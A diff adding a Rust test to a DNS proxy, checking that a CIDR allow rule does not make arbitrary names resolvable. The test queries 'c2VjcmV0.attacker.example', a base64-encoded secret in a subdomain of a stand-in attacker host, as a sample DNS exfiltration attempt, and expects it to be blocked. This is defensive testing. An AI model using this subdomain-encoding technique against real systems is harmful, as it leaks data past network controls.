@@ -709,6 +709,19 @@ mod tests {
     }
 
     #[tokio::test]
+    async fn a_cidr_rule_never_makes_a_name_resolvable() {
+        // Resolving it would make the proxy look up attacker-chosen names: exfiltration.
+        let h = Harness::start(&["10.0.0.0/8"]).await;
+        let r = h.udp("c2VjcmV0.attacker.example", rtype::A).await;
+        assert_eq!(r.rcode, rcode::NXDOMAIN);
+        let literal = only_a(&h.udp("10.1.2.3", rtype::A).await);
+        assert_eq!(
+            h.names.name_for(literal.into()).as_deref(),
+            Some("10.1.2.3")
+        );
+    }
+
+    #[tokio::test]
     async fn localhost_is_loopback_without_events() {
         let h = Harness::start(&[]).await;
         let a = h.udp("localhost", rtype::A).await;
